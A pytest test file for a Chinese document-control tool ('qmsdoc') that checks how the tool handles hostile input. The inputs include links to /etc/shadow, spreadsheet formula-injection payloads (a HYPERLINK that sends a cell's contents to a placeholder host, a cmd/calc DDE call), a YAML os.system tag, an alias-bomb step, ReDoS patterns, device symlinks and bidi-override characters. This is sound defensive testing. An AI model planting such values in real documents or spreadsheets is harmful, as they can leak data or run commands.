"""Careless and hostile input found by `qmsdoc check`: each case is a coded finding at file:line with a
Chinese message, never a traceback or a hang."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import Callable
from pathlib import Path

import pytest

from qmsdoc.core import check, load_config
from qmsdoc.core.render import CorpusRenderer

from conftest import Project, run_cli

DOC = "manuals/qp-hr/QP-02-03.md"
FORM = "controlled_forms/QP-02-03-F001.yaml"
MANUAL = "manuals/qp-hr/index.md"

Case = Callable[[Project], tuple[str, str, int]]


def findings(project: Project, code: str | None = None) -> list[str]:
    """The check's findings of the project, as written; `code`: only those of that code."""
    return [f.format() for f in check(load_config(project.root)).findings if code in (None, f.code)]


def in_english(project: Project) -> None:
    """The project's language made English (qmsdoc.yml's `language: en`)."""
    project.write("qmsdoc.yml", project.read("qmsdoc.yml") + "language: en\n")


def assert_finding(project: Project, code: str, path: str, line: int, *words: str) -> str:
    found = findings(project)
    prefix = f"{path}:{line}: error {code} "
    hits = [f for f in found if f.startswith(prefix)]
    assert hits, f"want {prefix!r} in {found}"
    named = [f for f in hits if all(word in f for word in words)]  # a line may hold several findings
    assert named, f"want {words} in one of {hits}"
    assert any("\u4e00" <= ch <= "\u9fff" for ch in named[0][len(prefix):])
    return named[0]


def body(project: Project, text: str) -> int:
    project.replace(DOC, "4.4.3 归还办公用品。", f"4.4.3 归还办公用品。\n\n{text}\n")
    return project.line_of(DOC, text.split("\n")[-1])


def test_reference_style_definition_outside_the_repo_is_qd201(project: Project) -> None:
    line = body(project, "见[影子文件][s]。\n\n[s]: /etc/shadow")
    assert_finding(project, "QD201", DOC, line, "/etc/shadow")


# (finding, (written on the home page, where it is found), (written on a manual page, where it is found))
ON_HOME_AND_MANUAL_PAGES = {
    "QD201": (("[口令](../../etc/passwd)", "[口令]"), ("[影子]\n\n[影子]: file:///etc/shadow\n\n", "[影子]: file")),
    "QD202": (("![标志](https://tracker.example/logo.png)", "![标志]"), ("![图](http://x.example/a.png)", "![图]")),
}


@pytest.mark.parametrize("code", sorted(ON_HOME_AND_MANUAL_PAGES))
def test_links_outside_and_remote_images_on_home_and_manual_pages_are_found(project: Project, code: str) -> None:
    """A link outside the repository (QD201) or a remote picture (QD202) on the home page or a manual's page."""
    (home, home_at), (manual, manual_at) = ON_HOME_AND_MANUAL_PAGES[code]
    project.replace("manuals/index.md", "本网站发布", f"{home}本网站发布")
    project.replace(MANUAL, "本手册规定", f"{manual}本手册规定")
    assert_finding(project, code, "manuals/index.md", project.line_of("manuals/index.md", home_at))
    assert_finding(project, code, MANUAL, project.line_of(MANUAL, manual_at))


@pytest.mark.parametrize(("code", "text"), [("QD201", "见[说明][s]。\n\n[s]: https://www.iso.org/"),
                                            ("QD202", "![流程图](assets/流程.png) [标准](https://www.iso.org/)")])
def test_a_reference_definition_or_local_picture_and_remote_link_is_quiet(project: Project, code: str,
                                                                          text: str) -> None:
    body(project, text)
    assert not [f for f in findings(project) if code in f]


@pytest.mark.parametrize("text", ["![流程图](http://tracker.example/p.png)", "![流程图](//cdn.example/p.png)",
                                  "![流程图][img]\n\n[img]: https://cdn.example/p.png"])
def test_remote_images_are_qd202(project: Project, text: str) -> None:
    line = body(project, text.split("\n")[0])
    if "\n" in text:
        project.replace(DOC, text.split("\n")[0], text)
    assert_finding(project, "QD202", DOC, line)


def test_register_cells_are_never_formulas(project: Project, tmp_path) -> None:  # type: ignore[no-untyped-def]
    import datetime as dt
    import zipfile

    from openpyxl import load_workbook

    from qmsdoc.records.register import write_registers

    formula = '=HYPERLINK("http://x"&A1,"点击查看")'
    project.replace(DOC, "title: 员工离职管理工作规程", f"title: '{formula}'")
    project.replace(DOC, "department: 管家服务中心", "department: '@SUM(1+1)'")
    result = check(load_config(project.root))
    out = tmp_path / "records"
    out.mkdir()
    write_registers(result.corpus, project.root, out, dt.date(2026, 3, 1))
    sheet = load_workbook(out / "register.xlsx")["受控文件清单"]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "QP-02-03")
    assert row[1].value == formula and row[1].data_type == "s"
    assert row[5].value == "@SUM(1+1)" and row[5].data_type == "s"
    with zipfile.ZipFile(out / "register.xlsx") as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")
    # a form's 归口部门 is its owner document's department: text in the form's row too
    form_row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "QP-02-03-F001")
    assert form_row[5].value == "@SUM(1+1)" and form_row[5].data_type == "s"
    csv_text = (out / "register.csv").read_text("utf-8-sig")
    assert "\u200b=HYPERLINK" in csv_text and ",\u200b@SUM(1+1)," in csv_text
    assert "\nQP-02-03-F001,员工离职申请表,质量记录表单,A/1,现行有效,\u200b@SUM(1+1)," in csv_text


def _csv_cells(project: Project, tmp_path: Path, separator: str) -> dict[str, list[str]]:
    """Every cell of each CSV register as a reader splitting at `separator` sees it (Excel splits at the
    reader's list separator, wherever it stands)."""
    import datetime as dt

    from qmsdoc.records.register import write_registers

    out = tmp_path / "records"
    out.mkdir()
    write_registers(check(load_config(project.root)).corpus, project.root, out, dt.date(2026, 3, 1))
    return {path.name: [cell for row in csv.reader(io.StringIO(path.read_text("utf-8-sig")), delimiter=separator)
                        for cell in row] for path in sorted(out.glob("*.csv"))}


@pytest.mark.parametrize("separator", [",", ";"], ids=["comma", "semicolon"])
def test_a_register_cell_is_no_formula_whatever_the_reader_splits_at(project: Project, tmp_path: Path,
                                                                       separator: str) -> None:
    """A title `离职;=cmd|…;x` was one text cell to a reader splitting at `,` but gave a cell `=cmd|…` to Excel
    where the list separator is `;`: the leading quote only looked at the start of the whole value."""
    project.replace(DOC, "title: 员工离职管理工作规程", "title: \"离职;=cmd|' /C calc'!A0;x\"")
    project.replace(DOC, "department: 管家服务中心", "department: '管家; @SUM(1+1)'")
    cells = _csv_cells(project, tmp_path, separator)
    assert "register.csv" in cells and "acknowledgements.csv" in cells
    for name, found in cells.items():
        assert not [c for c in found if c.lstrip(" \u3000").startswith(("=", "+", "-", "@"))], (name, separator)


def test_a_semicolon_before_plain_text_is_kept_as_written(project: Project, tmp_path: Path) -> None:
    project.replace(DOC, "title: 员工离职管理工作规程", "title: '员工离职;管理工作规程'")
    assert "员工离职;管理工作规程" in _csv_cells(project, tmp_path, ",")["register.csv"]


def test_register_as_of_cells_are_never_formulas(repo: Project, tmp_path) -> None:  # type: ignore[no-untyped-def]
    """`register --as-of` reads the sources from git history: a title or department there (a form's 归口部门
    included, taken from its owner document) is text in the CSV and the workbook."""
    import csv
    import datetime as dt
    import zipfile

    from openpyxl import load_workbook

    from conftest import commit

    formula, command = '=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0"
    repo.revise(DOC, "title: 员工离职管理工作规程", f"title: '{formula}'")
    repo.revise(DOC, "department: 管家服务中心", "department: '@SUM(1+1)'")
    repo.revise(FORM, "title: 员工离职申请表", "title: '" + command.replace("'", "''") + "'")
    commit(repo.root, "hostile")
    day = dt.date.today().isoformat()  # the history holds today's commit
    for name in ("r.csv", "r.xlsx"):
        assert run_cli("register", "--as-of", day, "--out", str(tmp_path / name), cwd=repo.root).returncode == 0
    rows = {row[0]: row for row in csv.reader((tmp_path / "r.csv").read_text("utf-8-sig").splitlines())}
    assert rows["QP-02-03"][1] == "\u200b" + formula and rows["QP-02-03"][6] == "\u200b@SUM(1+1)"
    assert rows["QP-02-03-F001"][1] == "\u200b" + command and rows["QP-02-03-F001"][6] == "\u200b@SUM(1+1)"
    with zipfile.ZipFile(tmp_path / "r.xlsx") as book:
        assert not [n for n in book.namelist() if n.startswith("xl/worksheets/") and b"<f>" in book.read(n)]
    sheet = load_workbook(tmp_path / "r.xlsx").worksheets[0]
    cells = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
    assert cells["QP-02-03"][1].value == formula and cells["QP-02-03-F001"][6].value == "@SUM(1+1)"
    assert cells["QP-02-03-F001"][1].data_type == cells["QP-02-03-F001"][6].data_type == "s"


# -- nothing can make a check wait ----------------------------------------------------------------------

def test_fifo_document_and_form_are_qd001_not_a_hang(project: Project) -> None:
    import os

    os.mkfifo(project.path("manuals/qp-hr/QP-02-09.md"))
    os.mkfifo(project.path("controlled_forms/QP-02-03-F009.yaml"))
    assert_finding(project, "QD001", "manuals/qp-hr/QP-02-09.md", 1, "普通文件")
    assert_finding(project, "QD001", "controlled_forms/QP-02-03-F009.yaml", 1, "普通文件")


@pytest.mark.parametrize(("path", "words", "not_words"), [
    (FORM, "表单文件必须是“字段: 值”的映射：请按 code: …", "头信息"),
    (DOC, "头信息必须是“字段: 值”的映射：请按 id: …", "表单"),
], ids=["form", "document"])
def test_a_source_that_is_a_list_is_told_in_its_own_words(project: Project, path: str, words: str,
                                                            not_words: str) -> None:
    """A form written as a list was told 「头信息必须是…请按 id: …、title: … 的格式书写」: a form has no front matter
    and no id."""
    project.write(path, "- a\n- b\n" if path == FORM else "---\n- a\n- b\n---\n正文\n")
    found = assert_finding(project, "QD004", path, 1 if path == FORM else 2, words)
    assert not_words not in found


def test_a_folder_named_like_a_document_or_a_form_is_qd001(project: Project) -> None:
    """A folder `X.yaml` in the forms folder was skipped without a word (the form it stands for went missing:
    only the references to it said so); a folder `X.md` in a manual was already refused."""
    project.path("manuals/qp-hr/QP-02-09.md").mkdir()
    project.path("controlled_forms/QP-02-03-F009.yaml").mkdir()
    assert_finding(project, "QD001", "manuals/qp-hr/QP-02-09.md", 1, "文件夹")
    assert_finding(project, "QD001", "controlled_forms/QP-02-03-F009.yaml", 1, "文件夹")


def test_a_folder_without_a_source_suffix_in_the_forms_folder_is_not_qd001(project: Project) -> None:
    project.path("controlled_forms/archive").mkdir()
    assert not [f for f in findings(project) if " QD001 " in f]


def test_a_folder_link_back_into_a_folder_that_holds_it_is_qd008(project: Project) -> None:
    """MkDocs follows folder links: `qp-hr/loop -> ..` published the manuals inside themselves until the path
    was too long (ELOOP), and the site failed with a path of forty folders while the check said nothing."""
    project.path("manuals/qp-hr/loop").symlink_to("..")
    project.path("manuals/here").symlink_to(".")
    assert_finding(project, "QD008", "manuals/qp-hr/loop", 1, "manuals/")
    assert_finding(project, "QD008", "manuals/here", 1, "manuals/")


def test_a_folder_link_to_pictures_elsewhere_in_the_project_is_no_loop(project: Project) -> None:
    project.write("pictures/logo.png", "not read")
    project.path("manuals/qp-hr/img").symlink_to("../../pictures")
    assert not [f for f in findings(project) if " QD008 " in f]


def test_symlinks_to_devices_are_qd008_and_pipes_qd001_not_a_hang(project: Project) -> None:
    import os

    # A symlink leaving the project is QD008 whatever it points to (#33), a device included.
    project.path("manuals/qp-hr/QP-02-08.md").symlink_to("/dev/zero")
    project.path("manuals/qp-hr/图.png").symlink_to("/dev/zero")  # MkDocs would copy it for ever
    os.mkfifo(project.path("manuals/qp-hr/assets.gif"))
    assert_finding(project, "QD008", "manuals/qp-hr/QP-02-08.md", 1, "/dev/zero")
    assert_finding(project, "QD008", "manuals/qp-hr/图.png", 1, "/dev/zero")
    assert_finding(project, "QD001", "manuals/qp-hr/assets.gif", 1, "普通文件")


def test_register_hashes_the_bytes_the_build_loaded(project: Project) -> None:
    import hashlib

    from qmsdoc.records.register import register_rows

    original = project.path(DOC).read_bytes()
    result = check(load_config(project.root))
    project.replace(DOC, "4.4.3 归还办公用品。", "4.4.3 构建期间被修改。")  # edited while the build runs
    row = next(r for r in register_rows(result.corpus, project.root, project.root / "none") if r[0] == "QP-02-03")
    assert row[11] == hashlib.sha256(original).hexdigest()


@pytest.mark.parametrize("pattern,word", [(r"^(\w+-?)+$", "嵌套"), (r"^(QP-\d{2}", "正则表达式"),
                                          (r"^(QP|QP-0)+\d$", "多选分支")])
def test_catastrophic_or_broken_numbering_patterns_are_qd010(project: Project, pattern: str, word: str) -> None:
    project.replace(MANUAL, r"document: '^QP-\d{2}-\d{2}$'", f"document: '{pattern}'")
    # A near-miss id that makes ^(\w+-?)+$ backtrack for about a minute if it were ever run.
    project.replace(DOC, "id: QP-02-03", "id: QP-02-03-" + "A" * 28 + "!")
    line = project.line_of(MANUAL, "document:")
    assert_finding(project, "QD010", MANUAL, line, word)


def test_shipped_numbering_patterns_are_accepted() -> None:
    from conftest import REPO

    result = check(load_config(REPO))
    assert not [f for f in result.findings if f.code in ("QD010", "QD011")]


def test_yaml_nested_5000_deep_is_qd011(project: Project) -> None:
    project.replace(DOC, "department: 管家服务中心", "department: " + "[" * 5000 + "]" * 5000)
    assert_finding(project, "QD011", DOC, project.line_of(DOC, "department:"), "嵌套")


def test_form_yaml_nested_deep_is_qd011(project: Project) -> None:
    project.write(FORM, "code: QP-02-03-F001\nx:\n" + "".join("  " * i + "- a:\n" for i in range(1, 200)))
    assert_finding(project, "QD011", FORM, 41)


def test_markdown_list_nested_1000_levels_is_qd011(project: Project) -> None:
    nested = "\n".join("  " * i + "- 层" for i in range(1000))
    first = body(project, nested.split("\n")[0])
    project.replace(DOC, "\n- 层\n", "\n" + nested + "\n")
    assert_finding(project, "QD011", DOC, first + 41, "嵌套")


def test_markdown_lettered_list_nested_1000_levels_is_qd011(project: Project) -> None:
    nested = "\n".join("  " * i + "a. 层" for i in range(1000))
    first = body(project, nested)
    assert_finding(project, "QD011", DOC, first - 999 + 41, "嵌套")


def test_deep_indentation_in_code_or_text_is_no_nesting(project: Project) -> None:
    # README ASCII art (underscore.js): indented code whose tail stands 82 columns in, under a list's text too
    art = "    __\n    /\\ \\\n" + " " * 82 + "\\ \\____/\n" + " " * 83 + "\\/___/"
    body(project, art + "\n\n- 项\n" + " " * 90 + "项的续行")
    assert not [f for f in findings(project) if " QD011 " in f]
    page = _rendered(project)
    assert "\\ \\____/" in page and "项的续行" in page


def test_markdown_quotes_on_one_line_are_qd011(project: Project) -> None:
    line = body(project, "> " * 300 + "引用")
    assert_finding(project, "QD011", DOC, line)


# -- YAML says what it means -------------------------------------------------------------------------

def test_duplicate_key_names_both_lines(project: Project) -> None:
    project.replace(DOC, "department: 管家服务中心", "department: 管家服务中心\nstatus: draft")
    first, second = project.line_of(DOC, "status: effective"), project.line_of(DOC, "status: draft")
    assert_finding(project, "QD004", DOC, second, f"第 {first} 行", f"第 {second} 行")


def test_duplicate_key_on_one_line_names_the_line_once(project: Project) -> None:
    """Fire: a flow mapping `{by: a, by: b}` was told as 「重复（第 8 行与第 8 行）」."""
    project.replace(DOC, "department: 管家服务中心", "department: 管家服务中心\nx_note: {by: 甲, by: 乙}")
    line = project.line_of(DOC, "x_note:")
    found = assert_finding(project, "QD004", DOC, line, f"字段 by 在第 {line} 行重复")
    assert "行与第" not in found


def test_duplicate_key_on_one_line_of_a_screened_file_names_the_line_once(tmp_path: Path) -> None:
    """Fire: the guard mkdocs.yml passes first said the same 「第 2 行与第 2 行」."""
    from qmsdoc.core.source import screen_yaml_file

    mkdocs = tmp_path / "mkdocs.yml"
    mkdocs.write_text("site_name: x\nextra: {a: 1, a: 2}\n", "utf-8")
    [found] = screen_yaml_file(mkdocs, str(mkdocs), 1 << 20).findings
    assert found.code == "QD004" and found.line == 2 and "在第 2 行重复" in found.message, found


def test_duplicate_key_in_form_is_qd004(project: Project) -> None:
    project.replace(FORM, "retention: 3 年", "retention: 3 年\nretention: 永久")
    assert_finding(project, "QD004", FORM, project.line_of(FORM, "retention: 永久"), "retention")


# A key that is a collection was named by the composer's mark (`字段名   in "<unicode string>", line 3, column`),
# then by a list of PyYAML node objects: the key is named as its author wrote it, in YAML's flow style.
@pytest.mark.parametrize("key,shown,kind", [
    ("? {a: 1}\n: x", "字段名 {a: 1} ", "map"),
    ("[a, b]: x", "字段名 [a, b] ", "seq"),
    ("? [" + "长" * 300 + "]\n: x", "字段名 [" + "长" * 39 + "… ", "seq"),
], ids=["mapping", "sequence", "long"])
def test_a_collection_key_is_named_as_written(project: Project, key: str, shown: str, kind: str) -> None:
    project.replace(DOC, "department: 管家服务中心", f"department: 管家服务中心\n{key}")
    found = assert_finding(project, "QD004", DOC, project.line_of(DOC, key.split("\n")[0]), shown, kind)
    assert "unicode string" not in found and "Node(" not in found


# A type tag was told as a syntax error in PyYAML's words ("YAML 语法错误（could not determine a constructor for the
# tag 'tag:yaml.org,2002:python/object:os.system'）：检查该行的缩进…"): the tag is named as written.
@pytest.mark.parametrize(("value", "shown"), [("!!python/object:os.system [ls]", "!!python/object:os.system"),
                                              ("!local 文字", "!local")], ids=["python", "local"])
def test_an_unknown_yaml_tag_is_named_not_told_as_syntax(project: Project, value: str, shown: str) -> None:
    project.replace(DOC, "department: 管家服务中心", f"department: 管家服务中心\nx_note: {value}")
    found = assert_finding(project, "QD003", DOC, project.line_of(DOC, "x_note:"), f"不支持 YAML 类型标记 {shown}：")
    assert "constructor" not in found and "缩进" not in found


def test_a_yaml_mistake_is_still_told_as_syntax(project: Project) -> None:
    project.replace(DOC, "department: 管家服务中心", "department: 管家服务中心\nx_note: [未闭合")
    found = assert_finding(project, "QD003", DOC, project.line_of(DOC, "x_note:"), "YAML 语法错误（")
    assert "类型标记" not in found


# A stray indented block under a key's value was told at the block mapping's first line (the front matter's or
# qmsdoc.yml's first key, far from it): the parser's context mark. It is told where the parser stumbled.
def test_a_stray_indented_block_is_told_at_its_own_line(project: Project) -> None:
    project.replace(DOC, "department: 管家服务中心", "department: 管家服务中心\n# 备注\n    stray: 1\n    other: 2")
    assert_finding(project, "QD003", DOC, project.line_of(DOC, "    stray: 1"), "YAML 语法错误（")
    project.write("qmsdoc.yml", "organisation: 某物业服务有限公司\nreview_months: 12\n# 备注\n    stray: 1\n")
    result = run_cli("check", cwd=project.root)
    assert result.returncode == 2 and f"QD003 {project.path('qmsdoc.yml')}:4: " in result.stderr, result.stderr


def test_an_open_quote_is_told_where_it_opens_not_at_the_file_s_end(project: Project) -> None:
    """quiet: a construct left open is told at its start (the context mark), the line to fix."""
    project.replace(DOC, "department: 管家服务中心", 'department: "管家服务中心')
    assert_finding(project, "QD003", DOC, project.line_of(DOC, 'department: "'), "YAML 语法错误（")


def test_a_number_key_is_named_and_text_keys_are_quiet(project: Project) -> None:
    assert not any(" QD004 " in f for f in findings(project))
    project.replace(DOC, "department: 管家服务中心", "department: 管家服务中心\n12: x")
    assert_finding(project, "QD004", DOC, project.line_of(DOC, "12: x"), "字段名 12 ", "int")


@pytest.mark.parametrize("old,new,needle,word", [
    ("review_months: 12", "review_months: 12\n2026: 年度", "2026: 年度", "不是文字"),
    ("effective_date: 2026-03-01", "effective_date: 9999-06-01", "effective_date", "1900"),
    ("effective_date: 2026-03-01", "effective_date: 1066-10-14", "effective_date", "1900"),
    ("review_months: 12", "review_months: 12.0", "review_months", "整数"),
    ("review_months: 12", "review_months: " + "9" * 5000, "review_months", "过大"),
    ("id: QP-02-03", "id: QP-02-03" + "0" * 70, "id:", "过长"),
    ("change: 首次发布", "change: '   '", "change: '   '", "不能为空"),  # a 修订记录 entry that says no change
])
def test_values_the_schema_must_refuse(project: Project, old: str, new: str, needle: str, word: str) -> None:
    project.replace(DOC, old, new)
    assert_finding(project, "QD004", DOC, project.line_of(DOC, needle), word)


@pytest.mark.parametrize("setting", ["review_warning_days: 99999999999", "max_file_bytes: true",
                                     "required_sections: {job-description: 5}", "build_dir: ''"])
def test_unusable_configuration_is_exit_2(project: Project, setting: str) -> None:

    key = setting.split(":")[0]
    text = project.read("qmsdoc.yml")
    lines = [line for line in text.split("\n") if not line.startswith(f"{key}:")]
    if key == "required_sections":
        lines = lines[: next(i for i, line in enumerate(lines) if line.startswith("  procedure"))]
    project.write("qmsdoc.yml", "\n".join(lines) + f"\n{setting}\n")
    result = run_cli("check", cwd=project.root)
    assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
    assert "配置错误" in result.stderr and key in result.stderr


@pytest.mark.parametrize("planted,line,code", [
    ("review_warning_days: 2025-02-30", 2, "QD300"),  # an impossible date: PyYAML raised ValueError
    ("record_sections: " + "[" * 3000 + "]" * 3000, 2, "QD011"),  # RecursionError
    ("record_sections:\n  - &a [质量记录]\n  - *a", 2, "QD005"),  # the first step of an alias bomb
    ("organisation: 另一家公司", 2, "QD004"),  # the same key twice: the second silently won
])
def test_hostile_configuration_file_is_exit_2_at_its_line(project: Project, planted: str, line: int,
                                                          code: str) -> None:
    """qmsdoc.yml is read like a source: no traceback, no hang, no silent last-key-wins, and the line said."""
    project.write("qmsdoc.yml", "organisation: 某物业服务有限公司\n" + planted + "\n")
    result = run_cli("check", cwd=project.root)
    assert result.returncode == 2, result
    assert result.stderr.startswith(f"配置错误：{code} ") and f"qmsdoc.yml:{line}: " in result.stderr, result.stderr


def test_configuration_file_in_gbk_names_the_line_and_the_encoding(project: Project) -> None:
    project.path("qmsdoc.yml").write_bytes("language: zh-CN\norganisation: 某物业\n".encode("gb18030"))
    result = run_cli("check", cwd=project.root)
    said = result.stderr
    assert result.returncode == 2 and said.startswith("配置错误：QD001 ") and "qmsdoc.yml:2: " in said, said
    assert "UTF-8" in said


# -- identity: an id is what it looks like ----------------------------------------------------------

def test_id_with_arabic_indic_digit_names_the_character(project: Project) -> None:
    project.replace(DOC, "id: QP-02-03", "id: QP-02-0\u0661")
    assert_finding(project, "QD012", DOC, 2, "U+0661 ARABIC-INDIC DIGIT ONE")


def test_form_code_with_cyrillic_letter_is_qd012(project: Project) -> None:
    project.replace(FORM, "code: QP-02-03-F001", "code: QP-02-03-\u0424001")
    assert_finding(project, "QD012", FORM, project.line_of(FORM, "code:"), "CYRILLIC")


def test_fullwidth_and_dash_variants_are_still_accepted(project: Project) -> None:
    project.replace(DOC, "id: QP-02-03", "id: ＱＰ－02—03")
    assert not [f for f in findings(project) if "QD012" in f]


def test_form_missing_a_field_names_the_form_file(project: Project) -> None:
    """A form has no front matter: a field missing from it was said to be missing from the 头信息."""
    project.replace(FORM, "owner: QP-02-03\n", "")
    found = [f for f in findings(project, "QD004") if f.startswith(f"{FORM}:")]
    assert any("表单文件 缺少必填字段 owner" in f for f in found), found
    assert not any("头信息" in f for f in found), found


def test_document_missing_a_field_still_names_its_front_matter(project: Project) -> None:
    project.replace(DOC, "type: procedure\n", "")
    assert any("头信息 缺少必填字段 type" in f for f in findings(project, "QD004")), findings(project, "QD004")


def _unlistable(monkeypatch: pytest.MonkeyPatch, folder: Path) -> None:
    """`folder` made one this user may not list (as `chmod 000` makes it for anyone but root, who runs the tests)."""
    real = os.listdir

    def listdir(path: str | os.PathLike[str]) -> list[str]:
        if Path(path) == folder:
            raise PermissionError(13, "Permission denied", str(path))
        return real(path)

    monkeypatch.setattr(os, "listdir", listdir)


@pytest.mark.parametrize("folder", ["manuals/qp-hr", "controlled_forms", "manuals"])
def test_folder_that_cannot_be_listed_is_qd001(project: Project, monkeypatch: pytest.MonkeyPatch,
                                               folder: str) -> None:
    """A sources' folder another user owns aborted the whole check with 文件系统错误 (no code, no file): now QD001
    names the folder and the check goes on with the rest."""
    _unlistable(monkeypatch, project.root / folder)
    assert_finding(project, "QD001", f"{folder}/", 1, "无法读取文件夹")


def test_folders_that_can_be_listed_are_not_qd001(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    _unlistable(monkeypatch, project.root / "elsewhere")
    assert not [f for f in findings(project, "QD001") if "无法读取文件夹" in f]


@pytest.mark.parametrize("number", [".QP-02-03", "..", "-QP-02-03", "_QP-02-03", "/QP-02-03"])
def test_number_starting_with_punctuation_is_qd012(project: Project, number: str) -> None:
    """A number is a file name, a page address and a command argument: `..` or `.QP-02-03` (its manual's numbering
    allowing it) passed the check, then the build refused the hidden page blaming mkdocs.yml's exclude_docs."""
    project.replace(MANUAL, "document: '^QP-\\d{2}-\\d{2}$'", "document: '.*'")
    project.replace(DOC, "id: QP-02-03", f"id: '{number}'")
    assert_finding(project, "QD012", DOC, 2, f"{number} ", f"{number[0]} ")


def test_number_with_punctuation_inside_is_not_qd012(project: Project) -> None:
    project.replace(MANUAL, "document: '^QP-\\d{2}-\\d{2}$'", "document: '.*'")
    project.replace(DOC, "id: QP-02-03", "id: 'QP.02/03_A-'")
    assert not findings(project, "QD012")


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\ufeff", "\u200f"])
def test_invisible_characters_in_any_field_are_qd013(project: Project, char: str) -> None:
    project.replace(FORM, "- {label: 姓名}", f"- {{label: 姓{char}名}}")
    assert_finding(project, "QD013", FORM, project.line_of(FORM, "label: 姓"), f"U+{ord(char):04X}")


@pytest.mark.parametrize("escape", ["\\u200b", "\\u202E", "\\U0000FEFF", "\\x00\\u2066"])
def test_invisible_characters_written_as_yaml_escapes_are_qd013(project: Project, escape: str) -> None:
    """The file holds no invisible character, only the escape a double-quoted YAML string turns into one."""
    project.replace(FORM, "- {label: 姓名}", f'- {{label: "姓{escape}名"}}')
    assert_finding(project, "QD013", FORM, project.line_of(FORM, 'label: "姓'), "U+")


def test_bidi_override_in_body_is_qd013(project: Project) -> None:
    line = body(project, "审批金额\u202e0001\u202c元")
    assert_finding(project, "QD013", DOC, line, "RIGHT-TO-LEFT OVERRIDE")


@pytest.mark.parametrize("char", ["\x01", "\x07", "\x0b", "\x1b", "\x7f", "\x85", "\x9f"])
@pytest.mark.parametrize("fenced", [False, True])
def test_control_character_in_body_is_qd021(project: Project, char: str, fenced: bool) -> None:
    """The page kept a control character the Word and PDF copies dropped: the copies and the page differed."""
    text = f"审批金额{char}一万元"
    block = f"```\n{text}\n```" if fenced else text
    project.replace(DOC, "4.4.3 归还办公用品。", f"4.4.3 归还办公用品。\n\n{block}\n")  # (body() splits at \x85)
    assert_finding(project, "QD021", DOC, project.line_of(DOC, "审批金额"), f"U+{ord(char):04X}")


@pytest.mark.parametrize(("reference", "code", "named"), [
    ("&#x1F;", "QD021", "U+001F"), ("\\&#x1F;", "QD021", "U+001F"), ("&#127;", "QD021", "U+007F"),
    ("&#x81;", "QD021", "U+0081"),
    ("&#xFFFE;", "QD013", "U+FFFE"), ("&zwj;", "QD013", "ZERO WIDTH JOINER"), ("&#x202E;", "QD013", "RIGHT-TO-LEFT")])
def test_a_refused_character_written_as_a_character_reference_is_found_too(
        project: Project, reference: str, code: str, named: str) -> None:
    """The page decodes `&#x1F;` to the character QD021 (or QD013) refuses when typed; the Word and PDF copies
    dropped it: the three differed, and check said nothing."""
    line = body(project, f"审批金额{reference}一万元")
    assert_finding(project, code, DOC, line, named, reference.lstrip("\\"))  # `\\&` escapes nothing here


def test_a_character_reference_shown_as_written_or_to_a_plain_character_is_not_found(project: Project) -> None:
    """In code (shown as written), escaped (`&amp;`), or a character the page and the copies show alike
    (`&#150;` is HTML's en dash, `&nbsp;`, `&#x4E2D;`)."""
    body(project, "`&#x1F;` &amp;#x1F; &#150; &nbsp; &#x4E2D; &copy; &#0;\n\n```\n&#x202E; &zwj;\n```"
                  "\n\n    &#127;")
    assert not [f for f in findings(project) if " QD021 " in f or " QD013 " in f]


@pytest.mark.parametrize(("text", "written"), [
    ("见[登记表][台账]。", "[登记表][台账]"), ("见[台账][]。", "[台账][]"), ("见 ![流程图][图1]。", "![流程图][图1]"),
("见注[^3]。", "[^3]"), ("- 列表项[^note]", "[^note]"),
    ("> 引文[^q]", "[^q]"), ("| 列 |\n|---|\n| 见[表][无] |", "[表][无]")])
def test_a_reference_link_or_footnote_with_no_definition_is_qd025(project: Project, text: str, written: str) -> None:
    """Its definition lost when the text was copied from another file: the page and both copies showed the brackets."""
    line = body(project, text)
    hits = [f for f in findings(project) if f.startswith(f"{DOC}:{line}: warning QD025 ")]
    assert len(hits) == 1 and written in hits[0], hits


def test_a_defined_escaped_or_coded_reference_is_not_qd025(project: Project) -> None:
    body(project, "见[登记表][台账]、[台账][]、[LEDGER][] 与注[^3]，[^long note]。\n\n- [x] [注] 已办 [见附件] 文字\n\n"
                  "代码 `[a][b]` 与 `[^9]`，转义 \\[a\\]\\[b\\] 与 \\[^9]，引用 [[QP-02-03]]，行内 [a](https://a.b)[c]。\n\n"
                  "```\n[x][y] [^z]\n```\n\n<div>[h][i] [^j]</div>\n\n"
                  "[台账]: https://example.com/ledger\n  [LEDGER]: https://example.com/l2\n\n"
                  "[^3]: 第三条注。\n[^long note]: 长注。")
    assert not [f for f in findings(project) if " QD025 " in f]


def _rendered(project: Project) -> str:
    result = check(load_config(project.root))
    return CorpusRenderer(result.corpus, result.context.config).document(result.corpus.documents["QP-02-03"]).html


def test_the_rewrite_qd025_advises_for_a_backticked_label_links(project: Project) -> None:
    body(project, "见[`EventEmitter`][EventEmitter]。\n\n[EventEmitter]: https://example.com/ee")
    assert not [f for f in findings(project) if " QD025 " in f]
    assert 'href="https://example.com/ee"><code>EventEmitter</code></a>' in _rendered(project)


_FOLDED = "<details>\n<summary>安装</summary>\n\n说明文字。\n\n##### 1. 安装步骤\n\n- 第一步\n\n</details>"


def test_markdown_inside_an_html_block_is_qd027_once_at_its_first_line(project: Project) -> None:
    """GitHub ends an HTML block at its first blank line; Python-Markdown passes the whole block through, so the page
    and the copies showed `##### 1. 安装步骤` and `- 第一步` as typed, and nothing said why."""
    body(project, _FOLDED)
    line = project.line_of(DOC, "##### 1. 安装步骤")
    hits = [f for f in findings(project) if " QD027 " in f]
    assert len(hits) == 1 and hits[0].startswith(f"{DOC}:{line}: warning QD027 "), hits
    opened = project.line_of(DOC, "<details>")
    assert f"<details>（第 {opened} 行起）" in hits[0] and "<details markdown>" in hits[0], hits
    assert "##### 1. 安装步骤" in _rendered(project)  # what the rule says: shown as written


@pytest.mark.parametrize("text", [
    _FOLDED.replace("<details>", "<details markdown>"),
    "<table>\n<tr><td>\n1. 负责文件的编制\n</td></tr>\n</table>",  # a number reads the same as text
    "<div>\n说明文字，无标记。\n</div>\n\n##### 1. 正文标题"])
def test_html_blocks_holding_no_markdown_or_read_as_markdown_are_not_qd027(project: Project, text: str) -> None:
    body(project, text)
    assert not [f for f in findings(project) if " QD027 " in f]
    if "markdown" in text:
